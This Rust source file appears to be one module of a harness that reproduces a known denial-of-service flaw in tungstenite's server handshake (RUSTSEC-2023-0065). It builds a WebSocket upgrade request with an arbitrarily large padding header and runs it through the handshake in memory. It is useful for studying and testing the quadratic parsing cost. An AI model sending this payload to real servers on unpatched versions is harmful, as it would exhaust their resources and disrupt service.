//! A WebSocket upgrade request with one huge header, through tungstenite's
//! server handshake.
//!
//! **Crate:** tungstenite 0.20.0 and earlier (RUSTSEC-2023-0065, fixed in
//! 0.20.1). **Issue:** the handshake reads the request 4 KiB at a time and
//! re-parses the whole buffer after every read, with no limit on its size.
//! **Growth:** O(n²) in the header bytes: n/4096 parses of up to n bytes.

use std::io::{self, Read, Write};

use crate::AttackError;

/// An upgrade request whose `X-Padding` header holds `n` bytes.
pub fn payload(n: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(n + 256);
    out.extend_from_slice(
        b"GET /chat HTTP/1.1\r\n\
          Host: localhost\r\n\
          Upgrade: websocket\r\n\
          Connection: Upgrade\r\n\
          Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
          Sec-WebSocket-Version: 13\r\n\
          X-Padding: ",
    );
    out.resize(out.len() + n, b'a');
    out.extend_from_slice(b"\r\n\r\n");
    out
}

/// A connection whose incoming bytes are the request body and whose outgoing
/// bytes are collected.
#[derive(Debug)]
struct Connection<'a> {
    input: &'a [u8],
    output: Vec<u8>,
}

impl Read for Connection<'_> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        self.input.read(buf)
    }
}

impl Write for Connection<'_> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.output.write(buf)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Runs tungstenite's server handshake over a connection that delivers the
/// body, and reports the size of the response it wrote.
pub fn handle(body: &[u8]) -> Result<String, AttackError> {
    let connection = Connection {
        input: body,
        output: Vec::new(),
    };
    match tungstenite::accept(connection) {
        Ok(socket) => Ok(format!(
            "accepted a {}-byte upgrade request; wrote a {}-byte response",
            body.len(),
            socket.get_ref().output.len()
        )),
        Err(tungstenite::HandshakeError::Failure(e)) => Err(AttackError::with_source(
            "tungstenite-header",
            "handshake failed",
            e,
        )),
        Err(tungstenite::HandshakeError::Interrupted(_)) => Err(AttackError::new(
            "tungstenite-header",
            "handshake interrupted",
        )),
    }
}
